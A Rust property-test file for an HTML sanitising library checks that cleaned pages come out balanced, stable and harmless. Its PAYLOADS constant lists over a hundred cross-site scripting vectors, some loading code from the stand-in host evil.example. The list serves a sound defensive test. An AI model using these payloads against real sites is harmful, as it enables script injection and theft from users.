//! Proves what holds for any bytes at all: no panic, what is republished is balanced, harmless and settled, what is preserved is
//! the page, and no word comes out that did not go in.
#![allow(clippy::unwrap_used)]

mod common;

use common::{MODES, clean, markup};
use naqi::emit::EmitFormat;
use naqi::rewrite::Markup;
use naqi::strip::StripMode;
use naqi::{Origin, Settings};
use proptest::prelude::*;

const TAGS: &[&str] = &[
    "p",
    "div",
    "span",
    "a",
    "b",
    "i",
    "em",
    "strong",
    "ul",
    "ol",
    "li",
    "table",
    "tbody",
    "tr",
    "td",
    "th",
    "h1",
    "h2",
    "h3",
    "section",
    "article",
    "aside",
    "nav",
    "header",
    "footer",
    "main",
    "blockquote",
    "pre",
    "code",
    "figure",
    "figcaption",
    "center",
    "font",
    "form",
    "button",
    "label",
    "select",
    "option",
    "textarea",
    "title",
    "svg",
    "path",
    "g",
    "math",
    "mi",
    "mtext",
    "annotation-xml",
    "foreignObject",
    "noscript",
    "template",
    "script",
    "style",
    "iframe",
    "object",
    "dl",
    "dt",
    "dd",
    "ruby",
    "rt",
    "details",
    "summary",
    "html",
    "head",
    "body",
    "plaintext",
    "xmp",
    "video",
    "caption",
    "colgroup",
];
const VOID: &[&str] = &["br", "hr", "img", "wbr", "input", "meta", "link", "base", "col", "source", "area", "embed"];
const ATTRIBUTES: &[&str] = &[
    "class=share",
    "class='related-posts'",
    "class=\"article-body\"",
    "id=comments",
    "hidden",
    "style='display:none'",
    "dir=rtl",
    "lang=ar",
    "role=navigation",
    "href=/a?b=c&amp;d",
    "href='javascript:alert(1)'",
    "src=x.jpg",
    "alt='صورة \"x\"'",
    "title=a>b",
    "onclick=x()",
    "=",
    "\"",
    "<",
    "a='",
    "colspan=2",
    "srcset='a.jpg 1x, b.jpg 2x'",
    "itemprop=articleBody",
    "/",
];
/// Labels that rules know.
const LABELS: &[&str] =
    &["شارك المقال", "0 تعليق", "اقرأ أيضا: خبر آخر", "أخبار ذات صلة", "Share this", "Related articles", "Read more", "Advertisement", "3 comments"];
/// Sentences that they must leave, and what is odd in a text.
const TEXTS: &[&str] = &[
    "وقال المدير إن العمل سيبدأ في الربيع المقبل، وإن الطريق سيفتح أمام الجميع قبل نهاية العام الحالي. ",
    "The bridge was closed for two years, and the ferry that replaced it never once left on time. ",
    "كـتـاب",
    "مُحَمَّد",
    " ",
    "\n",
    "\u{200f}",
    "\u{a0}",
    "مرحبا",
    "word",
    "x < y",
    "a & b",
    "&amp;",
    "&lt;",
    "&#x627;",
    "&#1604",
    "&nbsp;",
    "&copy",
    "&notit;",
    "&#0;",
    "&#xd800;",
    "&",
    "<",
    ">",
    "\0",
    "\r",
    "\u{fffd}",
    "]]>",
    "🙂",
];
const ODDITIES: &[&str] = &[
    "<!-- c -->",
    "<!--",
    "-->",
    "<!doctype html>",
    "<![CDATA[ x <b> ]]>",
    "<?php x ?>",
    "</>",
    "</ >",
    "<!>",
    "<a",
    "</p",
    "<div class='",
    "<!-->",
    "<p/>",
    "<br/",
    "--!>",
    "</br>",
    "</body>",
    "</html>",
    "<<b>",
    "<!-- <p> --",
    "</script>",
    "</title>",
    "</textarea>",
];

fn piece() -> impl Strategy<Value = String> {
    let tag = (prop::sample::select(TAGS), prop::collection::vec(prop::sample::select(ATTRIBUTES), 0..3), any::<bool>());
    prop_oneof![
        6 => tag.prop_map(|(name, attributes, upper)| {
            let name = if upper { name.to_uppercase() } else { name.to_owned() };
            let attributes: String = attributes.iter().map(|attribute| format!(" {attribute}")).collect();
            format!("<{name}{attributes}>")
        }),
        5 => prop::sample::select(TAGS).prop_map(|name| format!("</{name}>")),
        2 => prop::sample::select(VOID).prop_map(|name| format!("<{name} src=p.png href=q>")),
        6 => prop::sample::select(TEXTS).prop_map(str::to_owned),
        1 => prop::sample::select(ODDITIES).prop_map(str::to_owned),
        1 => "\\PC{0,12}",
    ]
}

fn soup() -> impl Strategy<Value = String> {
    let piece = prop_oneof![23 => piece(), 2 => prop::sample::select(LABELS).prop_map(str::to_owned)];
    prop::collection::vec(piece, 0..60).prop_map(|pieces| pieces.concat())
}

/// A page without a label.
fn unlabelled() -> impl Strategy<Value = String> {
    prop::collection::vec(piece(), 0..60).prop_map(|pieces| pieces.concat())
}

fn declared(charset: &str) -> Origin {
    Origin { content_type: Some(format!("text/html; charset={charset}")), ..Origin::default() }
}

fn republished(page: &str, strip: StripMode) -> String {
    String::from_utf8(clean(page.as_bytes(), &declared("utf-8"), strip, EmitFormat::Republish).0).unwrap()
}

/// Letters and digits only: white space and marks are the emitter's.
fn letters(text: &str) -> Vec<char> {
    text.chars().filter(|c| c.is_alphanumeric()).collect()
}

/// A page in which nothing that is inline is crossed by what is not: tags of blocks, and whole elements among them.
fn uncrossed() -> impl Strategy<Value = String> {
    const INLINE: &[&str] = &["b", "span", "a href=/x", "code", "label", "svg", "select", "object", "button", "x-card", "span style='display:block'"];
    let blocks = [
        "p",
        "div",
        "ul",
        "ol",
        "li",
        "table",
        "tr",
        "td",
        "th",
        "h2",
        "section",
        "blockquote",
        "pre",
        "center",
        "form",
        "option",
        "optgroup",
        "details",
        "dd",
    ];
    let whole = (prop::sample::select(INLINE), prop::sample::select(TEXTS))
        .prop_map(|(tag, text)| format!("<{tag}>{text}</{}>", tag.split(' ').next().unwrap()));
    let piece = prop_oneof![
        6 => (prop::sample::select(blocks.to_vec()), any::<bool>()).prop_map(|(name, ends)| format!("<{}{name}>", if ends { "/" } else { "" })),
        3 => whole,
        1 => prop::sample::select(&["<br>", "</br>", "<hr>", "<img src=p.png>", "<input>", "</p>", "</section>", "<!-- c -->"][..]).prop_map(str::to_owned),
        6 => prop::sample::select(TEXTS).prop_map(str::to_owned),
    ];
    prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
}

/// The lines of a page's text that say something, without what marks and numbers items.
fn text_lines(page: &str) -> Vec<String> {
    let text = String::from_utf8(clean(page.as_bytes(), &declared("utf-8"), StripMode::Off, EmitFormat::Text).0).unwrap();
    let is_mark = |c: char| c.is_ascii_digit() || matches!(c, '.' | '-' | ' ' | '|');
    let line = |line: &str| common::collapsed(line.trim_start_matches(is_mark)).replace('\0', "");
    text.lines().map(line).filter(|line| !line.is_empty()).collect()
}

/// A line of the second text in which two of the first stand together.
fn glued<'a>(parted: &[String], lines: &'a [String]) -> Option<&'a String> {
    let ends = |lines: &[String]| {
        let mut at = 0;
        lines
            .iter()
            .map(|line| {
                at += letters(line).len();
                at
            })
            .collect::<std::collections::BTreeSet<usize>>()
    };
    let (wanted, there) = (ends(parted), ends(lines));
    let missing = wanted.iter().find(|end| !there.contains(end))?;
    lines
        .iter()
        .scan(0, |at, line| {
            *at += letters(line).len();
            Some((*at, line))
        })
        .find(|(end, _)| end > missing)
        .map(|(_, line)| line)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, failure_persistence: None, rng_seed: proptest::test_runner::RngSeed::Fixed(20_261_124), ..ProptestConfig::default() })]

    #[test]
    fn what_is_republished_is_balanced_and_harmless(page in soup()) {
        for strip in MODES {
            let html = republished(&page, strip);
            prop_assert_eq!(markup::unbalanced(&html), None, "{:?}: {}", strip, html);
            prop_assert_eq!(markup::harmful(&html), Vec::<String>::new(), "{:?}: {}", strip, html);
        }
    }

    #[test]
    fn what_is_republished_stays_as_it_is(page in soup()) {
        for strip in MODES {
            let once = republished(&page, strip);
            prop_assert_eq!(&republished(&once, StripMode::Off), &once, "{:?}", strip);
        }
    }

    /// Stripping twice may find more where the first time made new neighbours, so this page has no labels; where the guard let an
    /// unclosed element's content go, which is closed when it is read again; and by the model, which weighs a block against its page.
    #[test]
    #[ignore = "known gap: a rule that did not fit an element may fit what it is written as (center as div), or where its wrapper was not written"]
    fn what_is_stripped_once_needs_no_second_time(page in unlabelled()) {
        let (once, report) = clean(page.as_bytes(), &declared("utf-8"), StripMode::Rules, EmitFormat::Republish);
        prop_assume!(report.counts.guarded == 0);
        let once = String::from_utf8(once).unwrap();
        prop_assert_eq!(republished(&once, StripMode::Rules), once);
    }

    #[test]
    fn preserving_without_stripping_gives_the_bytes_back(page in soup(), noise in prop::collection::vec(any::<u8>(), 0..300), chunk in 1..40_usize) {
        let utf16: Vec<u8> = page.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let windows = encoding_rs::WINDOWS_1256.encode(&page).0.into_owned();
        let with_mark = [&[0xff, 0xfe], utf16.as_slice()].concat();
        let inputs = [
            (page.into_bytes(), declared("utf-8")), (windows.clone(), declared("windows-1256")), (windows, Origin::default()), (utf16, declared("utf-16le")),
            (with_mark, Origin::default()), (noise.clone(), Origin::default()), (noise.clone(), declared("gb18030")), (noise.clone(), declared("iso-2022-jp")),
            (noise, declared("utf-16be")),
        ];
        let settings = Settings { strip: StripMode::Off, emit: EmitFormat::Preserve, ..Settings::default() };
        for (bytes, origin) in inputs {
            let mut out = Vec::new();
            let mut pipeline = naqi::Pipeline::new(common::builtin_rules().clone(), &settings, &origin, &mut out);
            bytes.chunks(chunk).for_each(|bytes| pipeline.feed(bytes).unwrap());
            pipeline.finish().unwrap();
            prop_assert_eq!(out, bytes, "{:?}", origin.content_type);
        }
    }

    #[test]
    fn any_bytes_are_cleaned_into_any_format(bytes in prop::collection::vec(any::<u8>(), 0..400), text in any::<bool>()) {
        let origin = Origin { markup: if text { Markup::Text } else { Markup::Html }, ..Origin::default() };
        for strip in MODES {
            for format in common::FORMATS {
                let (out, report) = clean(&bytes, &origin, strip, format);
                prop_assert_eq!(report.counts.bytes_out, out.len() as u64);
                if format != EmitFormat::Preserve {
                    prop_assert!(String::from_utf8(out).is_ok());
                }
            }
        }
    }

    /// Words that the page's text parts are parted in what is republished, too.
    #[test]
    fn what_is_republished_glues_no_lines(page in soup()) {
        let (page, again) = (text_lines(&page), text_lines(&republished(&page, StripMode::Off)));
        prop_assert!(glued(&page, &again).is_none(), "{:?}: {:?} and {:?}", glued(&page, &again), page, again);
    }

    /// Where no mark is crossed by a block, the lines are the same.
    #[test]
    fn what_is_republished_has_the_lines_of_the_page(page in uncrossed()) {
        prop_assert_eq!(text_lines(&republished(&page, StripMode::Off)), text_lines(&page));
    }

    /// Line by line in the page's own order, too: what comes out is what went in with parts left out.
    #[test]
    fn no_word_comes_out_that_did_not_go_in(page in soup()) {
        // Literal text (`plaintext`, CDATA) keeps its references as they are written.
        let sources = [letters(&page), letters(&htmlize::unescape(&page))];
        for strip in MODES {
            let text = String::from_utf8(clean(page.as_bytes(), &declared("utf-8"), strip, EmitFormat::Text).0).unwrap();
            for line in text.lines() {
                // Lists with numbers get them from the emitter.
                let wanted = letters(line.trim_start().trim_start_matches(|c: char| c.is_ascii_digit() || c == '.'));
                let holds = |source: &[char]| {
                    let mut source = source.iter();
                    wanted.iter().all(|letter| source.any(|there| there == letter))
                };
                prop_assert!(sources.iter().any(|source| holds(source)), "{:?}: {:?}", strip, line);
            }
        }
    }

    /// Taking bytes out of a page must not make a tag that was not there before.
    #[test]
    fn preserved_seams_make_no_new_elements(page in soup()) {
        let live = |html: &str| markup::count_elements(html, &["script", "img", "iframe", "object", "embed", "svg", "style"]);
        for strip in [StripMode::Rules, StripMode::Article] {
            let out = String::from_utf8(clean(page.as_bytes(), &declared("utf-8"), strip, EmitFormat::Preserve).0).unwrap();
            prop_assert!(live(&out) <= live(&page), "{strip:?}: {out}");
        }
    }
}

/// What parts words on the page, and what does not, in every format.
#[test]
fn words_are_parted_where_the_page_parts_them() {
    let deep = "<div>".repeat(600);
    let pages = [
        ("<div>One</br>Two</div>", "One\nTwo", "<div>One<br>Two</div>\n"),
        ("<div>One</p>Two</div>", "One\nTwo", "<div>One<br>Two</div>\n"),
        ("<div>One<div class=clear></div>Two<p></p>Three</div>", "One\nTwo\nThree", "<div>One<br>Two<br>Three</div>\n"),
        ("<div><p>One.</p>Two.</p>Three.</p></div>", "One.\nTwo.\nThree.", "<div><p>One.</p>Two.<br>Three.</div>\n"),
        ("One<option>Two<option>Three", "One\nTwo\nThree", "One<br>Two<br>Three\n"),
        ("One<button>x</button>Two<select><option>y</select>Three", "One Two Three", "One Two Three\n"),
        ("<b>One<div></div></b><i>Two</i>", "One\nTwo", "<b>One</b><br><i>Two</i>\n"),
        ("One<div></div><img src=a.png>", "One", "One<br><img src=\"a.png\">\n"),
        ("<a style='display:block'>x</a>", "x", "<a>x</a>\n"),
        ("<pre>a<br><br>b</pre>", "a\n\nb", "<pre>a<br><br>b</pre>\n"),
        ("<div><button><svg></svg><h3>Costs?</h3></button><p>Ten.</p></div>", "Costs?\nTen.", "<div><h3>Costs?</h3><p>Ten.</p></div>\n"),
        (
            "<table><tr><th colspan=2></th><th>a</th></tr><tr><td>b</td><td rowspan=2></td></tr></table>",
            "a\nb",
            "<table><tr><th colspan=\"2\"></th><th>a</th></tr><tr><td>b</td><td rowspan=\"2\"></td></tr></table>\n",
        ),
    ];
    let text = |page: &str| text_lines(page).join("\n");
    for (page, lines, html) in pages {
        assert_eq!(republished(page, StripMode::Off), html, "{page}");
        assert_eq!(republished(html, StripMode::Off), html, "{page}");
        let said = String::from_utf8(clean(page.as_bytes(), &declared("utf-8"), StripMode::Off, EmitFormat::Text).0).unwrap();
        let said = if page.contains("<pre>") {
            said.trim_end().to_owned()
        } else {
            said.lines().filter(|line| !line.is_empty()).collect::<Vec<_>>().join("\n")
        };
        assert_eq!(said, lines, "{page}");
    }
    let unread = format!("{deep}a<svg><text>b</text></svg><select><option>c</select><button>d</button><template>e</template><textarea>f</textarea>g");
    assert_eq!(text(&unread), "a g");
    assert_eq!(text(&format!("{deep}a<div>b</div>c")), "a\nb\nc");
}

/// Ways in which markup has become active after it was cleaned, by kind: seams, quoting, schemes, foreign content, raw text,
/// old browsers' leniency.
const PAYLOADS: &[&str] = &[
    // Plain, with letters' case and slashes.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p onmouseover=alert(1)>x",
    "<a href=x autofocus onfocus=alert(1)>x",
    // Seams: what is left when something between is taken out.
    "<<!--c-->script>alert(1)<<!--c-->/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<div class=share>Share this</div>script>alert(1)</script>",
    "<<div class=share></div>img src=x onerror=alert(1)>",
    "&l<b></b>t;script>alert(1)</script>",
    "&lt<!-- -->;script&gt;alert(1)&lt;/script&gt;",
    "<i<style>x</style>mg src=x onerror=alert(1)>",
    "<<template></template>svg onload=alert(1)>",
    "<<nav>Home</nav>iframe src=javascript:alert(1)>",
    // Text that says markup.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&lt;img src=x onerror=alert(1)&gt",
    "<plaintext><img src=x onerror=alert(1)>",
    "<xmp><script>alert(1)</script></xmp>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    // Quotes.
    "<img src=\"x\" alt=\"&quot; onerror=alert(1) &quot;\">",
    "<img alt='\" onerror=alert(1) x=\"' src=x>",
    "<a title='\"><script>alert(1)</script>' href=x>x</a>",
    "<img alt=`x onerror=alert(1)` src=x>",
    "<a href=\"x\"onclick=\"alert(1)\">x</a>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<a href='x' title=a&#34;onclick=alert(1)//>x</a>",
    "<a title='--><img src=x onerror=alert(1)>' href=x>x</a>",
    "<td colspan='2\" onclick=\"alert(1)'>x",
    "<p lang='\"><svg onload=alert(1)>'>x",
    "<img =\"> onerror=alert(1)\" src=x>",
    // Schemes.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' \u{1}javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='javascript&Tab;:alert(1)'>x</a>",
    "<a href='\u{0}javascript:alert(1)'>x</a>",
    "<a href='jav\u{0}ascript:alert(1)'>x</a>",
    "<a href='\u{85}javascript:alert(1)'>x</a>",
    "<a href='\u{ad}javascript:alert(1)'>x</a>",
    "<a href='\u{feff}javascript:alert(1)'>x</a>",
    "<a href='\u{200b}javascript:alert(1)'>x</a>",
    "<a href='\u{2028}javascript:alert(1)'>x</a>",
    "<a href='JAVASCRIPT:alert(1)'>x</a>",
    "<a href='javascript\u{fffd}:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:https://x.example/1'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='javascript:alert(1) 1x, x.jpg 2x'>",
    "<img srcset='x.jpg 1x,java\tscript:alert(1) 2x'>",
    "<img srcset='a.jpg\" onerror=alert(1) 1x'>",
    "<img srcset='data:,x 1x'>",
    "<img data-src='javascript:alert(1)'>",
    "<video poster=javascript:alert(1) src=x></video>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='https://www.youtube.com@evil.example/'></iframe>",
    "<iframe src='https://youtube.com.evil.example/'></iframe>",
    "<iframe src='//evilyoutube.com/x'></iframe>",
    "<amp-img src=javascript:alert(1)></amp-img>",
    "<base href='javascript:alert(1)//'><a href=x>x</a>",
    "<base href='data:text/html,'><a href='x'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href='x' style='background:url(javascript:alert(1))'>x</a>",
    // Foreign content.
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
    "<svg><desc><b><svg><style>/*</style><img src=x onerror=alert(1)>*/",
    "<math href=javascript:alert(1)>x</math>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><title><script>alert(1)</script></title></svg>",
    // Raw text.
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noscript>&lt;img src=x onerror=alert(1)&gt;</noscript>",
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea></textarea><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<select><iframe><script>alert(1)</script></iframe></select>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><script>alert(1)</script></noframes>",
    "<script><!--<script></script><img src=x onerror=alert(1)>--></script>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<title></title><svg onload=alert(1)>",
    // Comments and declarations.
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?x ><img src=x onerror=alert(1)>?>",
    "<!doctype x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</ <img src=x onerror=alert(1)>",
    "<!x><script>alert(1)</script>",
    // Broken off, nested, bytes.
    "<img src=x onerror=alert(1) ",
    "<script>alert(1)",
    "<a href=javascript:alert(1)",
    "<table><script>alert(1)</script><td><img src=x onerror=alert(1)>",
    "<a href=x><a href=javascript:alert(1)>x</a></a>",
    "<img\u{b}src=x\u{b}onerror=alert(1)>",
    "<img src=x onerror\u{c}=alert(1)>",
    "<img src=x on\u{0}error=alert(1)>",
    "<scr\u{0}ipt>alert(1)</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<\u{ff53}cript>alert(1)</script>",
    "<pre><code class='language-x\" onclick=\"alert(1)'>x</code></pre>",
    "<ol type='1\" onclick=alert(1) \"'><li>x</ol>",
    "<isindex action=javascript:alert(1)>",
];

#[test]
fn known_attacks_come_out_harmless() {
    let known = Origin { url: Some("https://news.example/a/b".parse().unwrap()), ..declared("utf-8") };
    let mut failures = Vec::new();
    for payload in PAYLOADS {
        let prose = "The ferry left late again, and the harbour master wrote it down as he had every week. ".repeat(8);
        let pages = [
            payload.to_string(),
            format!("<article><p>{prose}</p>{payload}<p>{prose}</p></article>"),
            format!("<div class=share>{payload}</div><p>{prose}"),
        ];
        for (page, origin, strip) in pages
            .iter()
            .flat_map(|page| [(page, &known), (page, &declared("utf-8"))].map(|(page, origin)| (page, origin.clone())))
            .flat_map(|(page, origin)| MODES.map(|strip| (page, origin.clone(), strip)))
        {
            let html = String::from_utf8(clean(page.as_bytes(), &origin, strip, EmitFormat::Republish).0).unwrap();
            for harm in markup::harmful(&html).into_iter().chain(markup::unbalanced(&html)) {
                failures.push(format!("{payload}\n    {harm} ({strip:?}): {html}"));
            }
            // The same again as the page of another site: nothing may wake up the second time.
            let twice = republished(&html, StripMode::Off);
            failures.extend(markup::harmful(&twice).into_iter().map(|harm| format!("{payload}\n    twice, {harm}: {twice}")));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// The oracle itself must see what it is there to see.
#[test]
fn the_oracle_sees_harm() {
    for (html, harm) in [
        ("<script>x</script>", "element <script>"),
        ("<p onclick=\"x\">y</p>", "attribute onclick of <p>"),
        ("<a href=\"javascript:x\">y</a>", "scheme javascript in href of <a>"),
        ("<a href=\"java\tscript:x\">y</a>", "scheme javascript in href of <a>"),
        ("<img src=\"data:,x\">", "scheme data in src of <img>"),
        ("<img srcset=\"a.jpg 1x, javascript:x 2x\">", "scheme javascript in srcset of <img>"),
    ] {
        assert_eq!(markup::harmful(html), [harm], "{html}");
    }
    for bad in ["<p>", "</p>", "<p><b></p></b>", "a < b", "a > b", "<P>x</P>", "<p a='b'>x</p>", "<p a=b>x</p>", "<p", "<p a=\"<\">x</p>"] {
        assert!(markup::unbalanced(bad).is_some(), "{bad}");
    }
    assert_eq!(markup::unbalanced("<p lang=\"ar\">x<br><img src=\"y\" alt=\"\"> &lt;</p><ul><li>z</li></ul>"), None);
    assert!(markup::misread("<p><div>x</div></p>").is_some() && markup::misread("<table><tr><td>x</td></tr></table>").is_none());
}

#[test]
#[ignore = "known gap: a `noscript` without an end goes with what is stripped, and what follows it is live where scripts run"]
fn what_an_endless_noscript_mutes_stays_mute() {
    let page = "<h1>A</h1><div id=comments><h2><noscript></h2><script>The ferry that was late for years was on time today, and nobody saw it.";
    let live = |html: &str| markup::count_elements(html, &["script"]);
    let out = String::from_utf8(clean(page.as_bytes(), &declared("utf-8"), StripMode::Article, EmitFormat::Preserve).0).unwrap();
    assert!(live(&out) <= live(page), "{out}");
}
